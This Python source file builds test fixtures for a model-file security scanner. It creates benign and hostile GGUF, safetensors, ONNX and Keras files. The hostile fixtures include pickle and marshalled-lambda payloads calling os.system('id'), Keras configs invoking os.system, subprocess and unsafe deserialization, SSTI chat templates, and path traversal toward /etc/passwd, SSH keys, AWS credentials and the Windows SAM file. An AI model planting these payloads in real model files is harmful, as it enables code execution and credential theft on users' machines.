    "chat_template_ssti_cve_2024_34359": (
        lambda: gguf_benign(template=SSTI_CVE_2024_34359),
        "gguf-template-ssti",
    ),
    "named_chat_template_ssti": (
        lambda: gguf_bytes(
            [
                *_llama_kvs(),
                (
                    "tokenizer.chat_template.tool_use",
                    GGUF_STR,
                    SSTI_TEMPLATES["attr_tilde_concat"][0],
                ),
            ],
            _llama_tensors(),
        ),
        "gguf-template-ssti",
    ),
    "chat_template_ssti_v1": (
        lambda: gguf_benign(version=1, template=SSTI_TEMPLATES["lipsum_globals_subscript"][0]),
        "gguf-template-ssti",
    ),
    "kv_count_overflow": (_gguf_huge_kv_count, "gguf-metadata-out-of-bounds"),
    "string_length_overflow": (_gguf_huge_string, "gguf-metadata-out-of-bounds"),
    "array_count_overflow": (_gguf_huge_array, "gguf-metadata-out-of-bounds"),
    "unknown_value_type": (
        lambda: (
            b"GGUF"
            + struct.pack("<IQQ", 3, 0, 1)
            + _gguf_str("x")
            + struct.pack("<I", 77)
            + b"\0" * 16
        ),
        "gguf-invalid-metadata",
    ),
    "zip_appended_polyglot": (lambda: gguf_benign() + _zip_with_pickle(), "gguf-trailing-data"),
    "tensor_too_many_dims": (
        lambda: gguf_bytes(
            [("general.architecture", GGUF_STR, "llama")],
            [("t", (1, 1, 1, 1, 1, 1, 1, 1, 1), 0, b"\0" * 4)],
        ),
        "gguf-tensor-invalid",
    ),
    "tensor_data_out_of_bounds": (
        lambda: gguf_bytes(
            [("general.architecture", GGUF_STR, "llama")], [("t", (1 << 20, 64), 0, b"\0" * 64)]
        ),
        "gguf-metadata-out-of-bounds",
    ),
}

# ----------------------------------------------------------------- safetensors


def safetensors_raw(header: dict[str, object] | bytes, data: bytes) -> bytes:
    raw = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(raw)) + raw + data


def _st_pickle_trailer() -> bytes:
    header = {"w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}
    payload = (
        b"\x80\x04\x95\x1d\x00\x00\x00\x00\x00\x00\x00\x8c\x02os\x8c\x06system\x93\x8c\x02id\x85R."
    )
    return safetensors_raw(header, b"\0" * 8 + payload)


SAFETENSORS_ATTACKS: dict[str, tuple[Callable[[], bytes], str]] = {
    "header_size_bomb": (
        lambda: struct.pack("<Q", 1 << 40) + b'{"a":1}' + b"\0" * 64,
        "safetensors-header-too-large",
    ),
    "header_truncated": (
        lambda: struct.pack("<Q", 5000) + b'{"w": {"dtype": "F32"',
        "safetensors-header-truncated",
    ),
    "overlapping_tensors": (
        lambda: safetensors_raw(
            {
                "a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]},
                "b": {"dtype": "F32", "shape": [4], "data_offsets": [8, 24]},
            },
            b"\0" * 24,
        ),
        "safetensors-header-overlap",
    ),
    "gap_between_tensors": (
        lambda: safetensors_raw(
            {
                "a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]},
                "b": {"dtype": "F32", "shape": [2], "data_offsets": [40, 48]},
            },
            b"\0" * 48,
        ),
        "safetensors-header-gap",
    ),
    "trailing_pickle_polyglot": (_st_pickle_trailer, "safetensors-trailing-data"),
    "offset_out_of_range": (
        lambda: safetensors_raw(
            {"a": {"dtype": "F32", "shape": [1024], "data_offsets": [0, 4096]}}, b"\0" * 16
        ),
        "safetensors-offset-out-of-range",
    ),
    "shape_dtype_size_mismatch": (
        lambda: safetensors_raw(
            {"a": {"dtype": "F32", "shape": [3], "data_offsets": [0, 16]}}, b"\0" * 16
        ),
        "safetensors-size-mismatch",
    ),
    "unknown_dtype": (
        lambda: safetensors_raw(
            {"a": {"dtype": "PYOBJ", "shape": [1], "data_offsets": [0, 8]}}, b"\0" * 8
        ),
        "safetensors-unknown-dtype",
    ),
    "metadata_not_string": (
        lambda: safetensors_raw(
            {
                "__metadata__": {"format": {"nested": ["x"]}},
                "a": {"dtype": "U8", "shape": [1], "data_offsets": [0, 1]},
            },
            b"\0",
        ),
        "safetensors-metadata-not-string",
    ),
    "duplicate_tensor_key": (
        lambda: safetensors_raw(
            b'{"a": {"dtype": "U8", "shape": [1], "data_offsets": [0, 1]}, '
            b'"a": {"dtype": "U8", "shape": [1], "data_offsets": [1, 2]}}',
            b"\0\0",
        ),
        "safetensors-header-duplicate-key",
    ),
    "metadata_chat_template_ssti": (
        lambda: safetensors_raw(
            {
                "__metadata__": {"chat_template": SSTI_TEMPLATES["cycler_globals"][0]},
                "a": {"dtype": "U8", "shape": [1], "data_offsets": [0, 1]},
            },
            b"\0",
        ),
        "safetensors-template-ssti",
    ),
}


def safetensors_numpy_file(folder: Path) -> Path:
    from safetensors.numpy import save_file

    rng = np.random.default_rng(0)
    p = folder / "mlp.safetensors"
    save_file(
        {
            "fc1.weight": rng.standard_normal((16, 8)).astype(np.float32),
            "fc1.bias": np.zeros(16, np.float32),
            "emb": rng.integers(0, 100, (10, 4)).astype(np.int64),
            "mask": np.ones((3, 3), bool),
            "half": np.ones((5,), np.float16),
        },
        str(p),
        metadata={"format": "np", "chat_template": CHATML_QWEN},
    )
    return p


def safetensors_scalar_file(folder: Path) -> Path:
    from safetensors.numpy import save_file

    p = folder / "scalar_and_empty.safetensors"
    save_file({"s": np.array(3.0, np.float64), "e": np.zeros((0, 4), np.float32)}, str(p))
    return p


def safetensors_torch_file(folder: Path) -> Path:
    import torch
    from safetensors.torch import save_file

    p = folder / "torch_bf16.safetensors"
    save_file({"w": torch.ones(4, 4, dtype=torch.bfloat16), "b": torch.zeros(4)}, str(p))
    return p


SAFETENSORS_BENIGN = (safetensors_numpy_file, safetensors_scalar_file, safetensors_torch_file)


def safetensors_benign_files(folder: Path) -> list[Path]:
    return [build(folder) for build in SAFETENSORS_BENIGN]


# ----------------------------------------------------------------- ONNX


def onnx_models() -> dict[str, object]:
    """Benign ModelProtos built with onnx.helper (small but real)."""
    import onnx
    from onnx import TensorProto, helper, numpy_helper

    rng = np.random.default_rng(1)
    w = numpy_helper.from_array(rng.standard_normal((4, 3)).astype(np.float32), "W")
    b = numpy_helper.from_array(np.zeros(3, np.float32), "B")
    x = helper.make_tensor_value_info("X", TensorProto.FLOAT, [1, 4])
    y = helper.make_tensor_value_info("Y", TensorProto.FLOAT, [1, 3])
    mlp = helper.make_graph(
        [
            helper.make_node("Gemm", ["X", "W", "B"], ["H"]),
            helper.make_node("Relu", ["H"], ["Y"]),
        ],
        "mlp",
        [x],
        [y],
        [w, b],
    )
    models: dict[str, object] = {"mlp": helper.make_model(mlp, producer_name="aisec-tests")}
    ms = helper.make_graph(
        [
            helper.make_node("FusedMatMul", ["X", "W"], ["H"], domain="com.microsoft"),
            helper.make_node("Relu", ["H"], ["Y"]),
        ],
        "ms",
        [x],
        [y],
        [w],
    )
    models["com_microsoft"] = helper.make_model(
        ms,
        opset_imports=[helper.make_opsetid("", 17), helper.make_opsetid("com.microsoft", 1)],
    )
    then_g = helper.make_graph(
        [helper.make_node("Identity", ["X"], ["Z"])],
        "then",
        [],
        [helper.make_tensor_value_info("Z", TensorProto.FLOAT, [1, 4])],
    )
    else_g = helper.make_graph(
        [helper.make_node("Neg", ["X"], ["Z2"])],
        "else",
        [],
        [helper.make_tensor_value_info("Z2", TensorProto.FLOAT, [1, 4])],
    )
    cond = helper.make_tensor_value_info("C", TensorProto.BOOL, [])
    out = helper.make_tensor_value_info("O", TensorProto.FLOAT, [1, 4])
    if_graph = helper.make_graph(
        [helper.make_node("If", ["C"], ["O"], then_branch=then_g, else_branch=else_g)],
        "if",
        [cond, x],
        [out],
    )
    models["if_subgraph"] = helper.make_model(if_graph)
    lin = helper.make_graph(
        [
            helper.make_node(
                "LinearClassifier",
                ["X"],
                ["L", "P"],
                domain="ai.onnx.ml",
                coefficients=[0.1] * 8,
                intercepts=[0.0, 0.0],
                classlabels_ints=[0, 1],
            )
        ],
        "lin",
        [x],
        [
            helper.make_tensor_value_info("L", TensorProto.INT64, [1]),
            helper.make_tensor_value_info("P", TensorProto.FLOAT, [1, 2]),
        ],
    )
    models["onnx_ml"] = helper.make_model(
        lin, opset_imports=[helper.make_opsetid("", 17), helper.make_opsetid("ai.onnx.ml", 3)]
    )
    for model in models.values():
        onnx.checker.check_model(model)  # type: ignore[arg-type]
    return models


def onnx_benign_files(folder: Path) -> list[Path]:
    import onnx

    out = []
    for name, model in onnx_models().items():
        p = folder / f"{name}.onnx"
        onnx.save_model(model, str(p))  # type: ignore[arg-type]
        out.append(p)
    ext_dir = folder / "external"
    ext_dir.mkdir(exist_ok=True)
    p = ext_dir / "mlp_external.onnx"
    onnx.save_model(
        onnx_models()["mlp"],  # type: ignore[arg-type]
        str(p),
        save_as_external_data=True,
        all_tensors_to_one_file=True,
        location="mlp_external.onnx.data",
        size_threshold=0,
    )
    out.append(p)
    return out


def onnx_external(location: str, *, in_subgraph: bool = False, in_function: bool = False) -> bytes:
    """A model whose initializer's bytes live at ``location`` (never created)."""
    from onnx import TensorProto, helper

    t = helper.make_tensor("W", TensorProto.FLOAT, [4, 3], vals=[0.0] * 12)
    t.ClearField("float_data")
    t.data_location = TensorProto.EXTERNAL
    for key, value in (("location", location), ("offset", "0"), ("length", "48")):
        entry = t.external_data.add()
        entry.key, entry.value = key, value
    x = helper.make_tensor_value_info("X", TensorProto.FLOAT, [1, 4])
    y = helper.make_tensor_value_info("Y", TensorProto.FLOAT, [1, 3])
    if in_subgraph:
        inner = helper.make_graph(
            [helper.make_node("MatMul", ["X", "W"], ["Z"])],
            "inner",
            [],
            [helper.make_tensor_value_info("Z", TensorProto.FLOAT, [1, 3])],
            [t],
        )
        cond = helper.make_tensor_value_info("C", TensorProto.BOOL, [])
        g = helper.make_graph(
            [helper.make_node("If", ["C"], ["Y"], then_branch=inner, else_branch=inner)],
            "outer",
            [cond, x],
            [y],
        )
    elif in_function:
        const = helper.make_node("Constant", [], ["W"], value=t)
        fn = helper.make_function(
            "local.funcs",
            "LoadW",
            ["X"],
            ["Y"],
            [const, helper.make_node("MatMul", ["X", "W"], ["Y"])],
            [helper.make_opsetid("", 17)],
        )
        g = helper.make_graph(
            [helper.make_node("LoadW", ["X"], ["Y"], domain="local.funcs")], "g", [x], [y]
        )
        model = helper.make_model(
            g,
            functions=[fn],
            opset_imports=[helper.make_opsetid("", 17), helper.make_opsetid("local.funcs", 1)],
        )
        return bytes(model.SerializeToString())
    else:
        g = helper.make_graph([helper.make_node("MatMul", ["X", "W"], ["Y"])], "g", [x], [y], [t])
    return bytes(helper.make_model(g).SerializeToString())


def onnx_custom_domain(domain: str, op_type: str) -> bytes:
    from onnx import TensorProto, helper

    x = helper.make_tensor_value_info("X", TensorProto.FLOAT, [1, 4])
    y = helper.make_tensor_value_info("Y", TensorProto.FLOAT, [1, 4])
    g = helper.make_graph([helper.make_node(op_type, ["X"], ["Y"], domain=domain)], "g", [x], [y])
    model = helper.make_model(
        g, opset_imports=[helper.make_opsetid("", 17), helper.make_opsetid(domain, 1)]
    )
    return bytes(model.SerializeToString())


def onnx_size_mismatch() -> bytes:
    from onnx import TensorProto, helper

    t = helper.make_tensor("W", TensorProto.FLOAT, [2, 2], vals=b"\0" * 16, raw=True)
    t.dims[:] = [1000, 1000]  # claims 4 MB, carries 16 bytes
    x = helper.make_tensor_value_info("X", TensorProto.FLOAT, [1, 1000])
    y = helper.make_tensor_value_info("Y", TensorProto.FLOAT, [1, 1000])
    g = helper.make_graph([helper.make_node("MatMul", ["X", "W"], ["Y"])], "g", [x], [y], [t])
    return bytes(helper.make_model(g).SerializeToString())


ONNX_ATTACKS: dict[str, tuple[Callable[[], bytes], str]] = {
    "external_data_absolute_path": (
        lambda: onnx_external("/etc/passwd"),
        "onnx-external-data-absolute-path",
    ),
    "external_data_dotdot_traversal": (
        lambda: onnx_external("../../../../../../etc/passwd"),
        "onnx-external-data-traversal",
    ),
    "external_data_hidden_traversal": (
        lambda: onnx_external("weights/../../secrets.env"),
        "onnx-external-data-traversal",
    ),
    "external_data_backslash_traversal": (
        lambda: onnx_external("..\\..\\Windows\\win.ini"),
        "onnx-external-data-traversal",
    ),
    "external_data_windows_drive": (
        lambda: onnx_external("C:\\Windows\\System32\\config\\SAM"),
        "onnx-external-data-absolute-path",
    ),
    "external_data_file_url": (
        lambda: onnx_external("file:///etc/shadow"),
        "onnx-external-data-absolute-path",
    ),
    "external_data_in_subgraph": (
        lambda: onnx_external("/root/.ssh/id_rsa", in_subgraph=True),
        "onnx-external-data-absolute-path",
    ),
    "external_data_in_local_function": (
        lambda: onnx_external("../../.aws/credentials", in_function=True),
        "onnx-external-data-traversal",
    ),
    "unknown_custom_op_domain": (
        lambda: onnx_custom_domain("com.evil.ops", "Backdoor"),
        "onnx-custom-op-domain",
    ),
    "python_custom_op": (
        lambda: onnx_custom_domain("ai.onnx.contrib", "PyOp"),
        "onnx-python-op",
    ),
    "raw_data_size_mismatch": (onnx_size_mismatch, "onnx-tensor-size-mismatch"),
}

# ----------------------------------------------------------------- Keras

os.environ.setdefault("KERAS_BACKEND", "torch")

EVIL_LAMBDA_CODE = base64.b64encode(
    marshal.dumps(compile("lambda x: __import__('os').system('id') or x", "<lambda>", "eval"))
).decode()


def _keras_model(name: str) -> object:
    import keras

    if name == "functional":
        inp = keras.Input((8,))
        x = keras.layers.Dense(
            16, activation="relu", kernel_regularizer=keras.regularizers.L2(0.01)
        )(inp)
        x = keras.layers.Dropout(0.1)(x)
        x = keras.layers.BatchNormalization()(x)
        model = keras.Model(inp, keras.layers.Dense(3, activation="softmax")(x))
        model.compile(
            optimizer="adam", loss="sparse_categorical_crossentropy", metrics=["accuracy"]
        )
        return model
    if name == "sequential_lstm":
        return keras.Sequential(
            [
                keras.Input((10,), dtype="int32"),
                keras.layers.Embedding(50, 8),
                keras.layers.LSTM(4),
                keras.layers.Dense(1, activation="sigmoid"),
            ]
        )
    if name == "conv":
        return keras.Sequential(
            [
                keras.Input((16, 16, 3)),
                keras.layers.Conv2D(4, 3, activation="relu"),
                keras.layers.MaxPooling2D(),
                keras.layers.Flatten(),
                keras.layers.Dense(2),
            ]
        )
    inner = keras.Sequential(
        [keras.Input((8,)), keras.layers.Dense(8, activation="tanh")], name="inner"
    )
    nested_in = keras.Input((8,))
    return keras.Model(nested_in, keras.layers.Dense(1)(inner(nested_in)))


KERAS_BENIGN = (
    ("functional", ".keras"), ("sequential_lstm", ".keras"), ("conv", ".keras"),
    ("nested", ".keras"), ("functional", ".h5"), ("conv", ".h5"),
)  # fmt: skip


def keras_benign_file(folder: Path, name: str, suffix: str) -> Path:
    """One real model saved by Keras 3 (``.keras``, or legacy ``.h5``)."""
    p = folder / f"{name}{'_legacy' if suffix == '.h5' else ''}{suffix}"
    _keras_model(name).save(p)  # type: ignore[attr-defined]
    return p


def keras_benign_files(folder: Path) -> list[Path]:
    """Real models saved by Keras 3 (.keras and legacy .h5)."""
    return [keras_benign_file(folder, name, suffix) for name, suffix in KERAS_BENIGN]


def keras_lambda_file(folder: Path) -> Path:
    import keras

    model = keras.Sequential(
        [keras.Input((4,)), keras.layers.Dense(4), keras.layers.Lambda(lambda t: t * 2)]
    )
    p = folder / "lambda.keras"
    model.save(p)
    return p


def keras_archive(config: dict[str, object], extra: dict[str, bytes] | None = None) -> bytes:
    """A .keras zip with ``config`` (as written by Keras 3) and an empty weights file."""
    import h5py

    weights = io.BytesIO()
    with h5py.File(weights, "w") as f:
        f.create_group("_layer_checkpoint_dependencies")
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("metadata.json", json.dumps({"keras_version": "3.8.0", "date_saved": "x"}))
        z.writestr("config.json", json.dumps(config))
        z.writestr("model.weights.h5", weights.getvalue())
        for name, data in (extra or {}).items():
            z.writestr(name, data)
    return buf.getvalue()


def _dense(name: str = "dense", activation: object = "linear") -> dict[str, object]:
    return {
        "module": "keras.layers",
        "class_name": "Dense",
        "config": {"name": name, "units": 2, "activation": activation},
        "registered_name": None,
    }


def keras_sequential(layers: list[dict[str, object]]) -> dict[str, object]:
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "sequential", "layers": [
            {"module": "keras.layers", "class_name": "InputLayer",
             "config": {"batch_shape": [None, 4], "name": "input"}, "registered_name": None},
            *layers,
        ]},
        "registered_name": None,
    }  # fmt: skip


def _lambda_layer(code: str = EVIL_LAMBDA_CODE) -> dict[str, object]:
    return {
        "module": "keras.layers",
        "class_name": "Lambda",
        "config": {
            "name": "lambda",
            "function": {
                "class_name": "__lambda__",
                "config": {"code": code, "defaults": None, "closure": None},
            },
            "arguments": {},
        },
        "registered_name": None,
    }


def _function_ref(module: str, name: str) -> dict[str, object]:
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


KERAS_ATTACKS: dict[str, tuple[Callable[[], bytes], str]] = {
    "lambda_layer_bytecode": (
        lambda: keras_archive(keras_sequential([_dense(), _lambda_layer()])),
        "keras-lambda-layer",
    ),
    "lambda_nested_three_models_deep": (
        lambda: keras_archive(
            keras_sequential([keras_sequential([keras_sequential([_lambda_layer()])])])
        ),
        "keras-lambda-layer",
    ),
    "cve_2025_1550_module_os_system": (
        lambda: keras_archive(keras_sequential([_dense(activation=_function_ref("os", "system"))])),
        "keras-unsafe-module",
    ),
    "builtins_exec_as_class": (
        lambda: keras_archive(
            keras_sequential(
                [
                    {
                        "module": "builtins",
                        "class_name": "exec",
                        "config": {},
                        "registered_name": None,
                    }
                ]
            )
        ),
        "keras-unsafe-module",
    ),
    "subprocess_in_optimizer_config": (
        lambda: keras_archive(
            {
                **keras_sequential([_dense()]),
                "compile_config": {
                    "optimizer": _function_ref("subprocess", "check_output"),
                    "loss": "mse",
                },
            }
        ),
        "keras-unsafe-module",
    ),
    "cve_2025_8747_keras_utils_get_file": (
        lambda: keras_archive(
            keras_sequential([_dense(activation=_function_ref("keras.utils", "get_file"))])
        ),
        "keras-unsafe-module",
    ),
    "cve_2025_9906_enable_unsafe_deserialization": (
        lambda: keras_archive(
            keras_sequential(
                [_function_ref("keras.config", "enable_unsafe_deserialization"), _lambda_layer()]
            )
        ),
        "keras-unsafe-module",
    ),
    "custom_object_outside_keras": (
        lambda: keras_archive(
            keras_sequential(
                [
                    {
                        "module": "evil_layers",
                        "class_name": "Backdoor",
                        "config": {},
                        "registered_name": "evil_layers>Backdoor",
                    }
                ]
            )
        ),
        "keras-custom-object",
    ),
    "tfoplambda_io_write_file": (
        lambda: keras_archive(
            keras_sequential(
                [{"class_name": "TFOpLambda", "config": {"name": "w", "function": "io.write_file"}}]
            )
        ),
        "keras-unsafe-module",
    ),
    "torch_module_wrapper_pickle": (
        lambda: keras_archive(keras_sequential([_torch_wrapper()])),
        "keras-torch-module-wrapper",
    ),
    "string_lookup_vocabulary_etc_passwd": (
        lambda: keras_archive(
            keras_sequential(
                [
                    {
                        "module": "keras.layers",
                        "class_name": "StringLookup",
                        "config": {"vocabulary": "/etc/passwd"},
                        "registered_name": None,
                    }
                ]
            )
        ),
        "keras-file-reference",
    ),
    "unsafe_deserialization_as_plain_string": (
        lambda: keras_archive(
            keras_sequential([_dense(activation="keras.config.enable_unsafe_deserialization")])
        ),
        "keras-unsafe-module",
    ),
    "unexpected_member_in_archive": (
        lambda: keras_archive(keras_sequential([_dense()]), {"payload.bin": b"\0" * 32}),
        "keras-unexpected-member",
    ),
}


OS_SYSTEM_PICKLE = b"\x80\x02cos\nsystem\nq\x00X\x02\x00\x00\x00idq\x01\x85q\x02Rq\x03."


def _torch_wrapper() -> dict[str, object]:
    return {
        "module": "keras.layers",
        "class_name": "TorchModuleWrapper",
        "config": {
            "name": "torch_module_wrapper",
            "module": base64.b64encode(OS_SYSTEM_PICKLE).decode(),
        },
        "registered_name": "TorchModuleWrapper",
    }


def legacy_keras_config(layers: list[dict[str, object]]) -> dict[str, object]:
    """A tf.keras 2 model_config (no ``module`` keys)."""
    return {
        "class_name": "Sequential",
        "config": {"name": "sequential", "layers": [
            {"class_name": "InputLayer", "config": {"batch_input_shape": [None, 4]}}, *layers]},
        "keras_version": "2.13.1",
        "backend": "tensorflow",
    }  # fmt: skip


def legacy_h5(folder: Path, name: str, config: dict[str, object]) -> Path:
    import h5py

    p = folder / name
    with h5py.File(p, "w") as f:
        f.attrs["model_config"] = json.dumps(config)
        f.attrs["keras_version"] = "2.13.1"
        f.attrs["backend"] = "tensorflow"
        g = f.create_group("model_weights")
        g.create_dataset("dense/kernel", data=np.zeros((4, 2), np.float32))
    return p


HDF5_LAMBDA_LEGACY = legacy_keras_config(
    [{"class_name": "Lambda", "config": {"name": "lambda",
      "function": [EVIL_LAMBDA_CODE, None, None], "function_type": "lambda", "module": "__main__", "output_shape": None,
      "output_shape_type": "raw", "arguments": {}}}]
)  # fmt: skip
HDF5_LAMBDA_FUNCTION_OS_SYSTEM = legacy_keras_config(
    [{"class_name": "Lambda", "config": {"name": "lambda", "function": "system",
      "function_type": "function", "module": "os", "arguments": {}}}]
)  # fmt: skip
